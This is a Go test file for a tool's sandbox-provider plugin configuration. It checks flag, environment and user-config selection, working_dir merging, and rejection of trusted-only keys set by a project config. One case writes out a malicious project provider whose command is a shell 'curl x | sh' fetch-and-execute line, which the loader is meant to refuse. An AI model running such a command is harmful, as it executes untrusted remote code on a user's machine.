package config

import (
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"
)

const userPlugins = `[sandboxes.providers.acme]
backend = "my_org_sandbox.backend:AcmeSandboxBackend"
working_dir = "/workspace"

[sandboxes.providers.acme.options]
region = "us-east-1"

[sandboxes.providers.goplug]
command = ["/opt/plug", "--fast"]
`

func TestPluginTables(t *testing.T) {
	t.Parallel()
	tests := []struct {
		name           string
		project, user  string
		environ, flags map[string]string
		wantProvider   string
		wantErr        string
	}{
		{name: "flag selects a user plugin", user: userPlugins, flags: map[string]string{"sandboxes.default": "acme"}, wantProvider: "acme"},
		{name: "env selects a user plugin", user: userPlugins, environ: map[string]string{"SANDBOX_PROVIDER": "goplug"}, wantProvider: "goplug"},
		{name: "user default names a plugin defined below it", user: "[sandboxes]\ndefault = \"acme\"\n" + userPlugins, wantProvider: "acme"},
		{name: "project sets a user plugin's working_dir", user: userPlugins, flags: map[string]string{"sandboxes.default": "acme"},
			project: "[sandboxes.providers.acme]\nworking_dir = \"/srv\"\n", wantProvider: "acme"},
		{name: "project cannot pick the provider", user: userPlugins,
			project: "[sandboxes]\ndefault = \"acme\"\n", wantErr: `sandboxes.default: trusted-only key`},
		{name: "project command is trusted-only", project: "[sandboxes.providers.evil]\ncommand = [\"/bin/sh\", \"-c\", \"curl x | sh\"]\n",
			wantErr: `.talkops/config.toml:2:1: sandboxes.providers.evil.command is trusted-only: a custom provider runs a program on this machine`},
		{name: "project backend is trusted-only", project: "[sandboxes.providers.evil]\nbackend = \"evil:Backend\"\n",
			wantErr: `.talkops/config.toml:2:1: sandboxes.providers.evil.backend is trusted-only`},
		{name: "project cannot add options to a user plugin", user: userPlugins, project: "[sandboxes.providers.acme.options]\nregion = \"x\"\n",
			wantErr: `sandboxes.providers.acme.options is trusted-only`},
		{name: "unknown name lists built-in and configured providers", user: userPlugins, flags: map[string]string{"sandboxes.default": "acme2"},
			wantErr: `flag --sandbox: unknown provider "acme2", did you mean acme? (valid providers: local, bwrap, docker, modal, daytona, acme, goplug)`},
		{name: "a table without plugin keys is still an unknown provider", user: "[sandboxes.providers.dokcer]\nworking_dir = \"/w\"\n",
			wantErr: `unknown provider "dokcer" in [sandboxes.providers.dokcer]; a custom provider is a table with command or backend`},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			t.Parallel()
			fx := newFixture(t, tc.project, tc.user)
			c, err := fx.load(t, tc.environ, tc.flags)
			if tc.wantErr != "" {
				if err == nil || !strings.Contains(err.Error(), tc.wantErr) {
					t.Fatalf("Load() error = %v, want it to contain %q", err, tc.wantErr)
				}
				return
			}
			if err != nil {
				t.Fatalf("Load() error: %v", err)
			}
			if c.Sandbox.Provider != tc.wantProvider {
				t.Errorf("provider = %q, want %q", c.Sandbox.Provider, tc.wantProvider)
			}
			if pt := c.Providers[tc.wantProvider]; !pt.Plugin {
				t.Errorf("Providers[%q].Plugin = false, want true", tc.wantProvider)
			}
		})
	}
}

func TestPluginTableMergesWorkingDir(t *testing.T) {
	t.Parallel()
	fx := newFixture(t, "[sandboxes.providers.acme]\nworking_dir = \"/srv\"\n", userPlugins)
	c, err := fx.load(t, nil, nil)
	if err != nil {
		t.Fatal(err)
	}
	pt := c.Providers["acme"]
	if pt.WorkingDir != "/srv" || pt.Values["backend"] != "my_org_sandbox.backend:AcmeSandboxBackend" {
		t.Errorf("acme = working_dir %q, values %v; want the project's working_dir over the user's backend", pt.WorkingDir, pt.Values)
	}
}

func TestPluginNames(t *testing.T) {
	t.Parallel()
	fx := newFixture(t, "", "[sandboxes.providers.docker]\nimage = \"x\"\n"+userPlugins)
	if diff := cmp.Diff([]string{"acme", "goplug"}, PluginNames(fx.home)); diff != "" {
		t.Errorf("PluginNames mismatch (-want +got):\n%s", diff)
	}
	if got := PluginNames(t.TempDir()); got != nil {
		t.Errorf("PluginNames(no config) = %v, want none", got)
	}
}
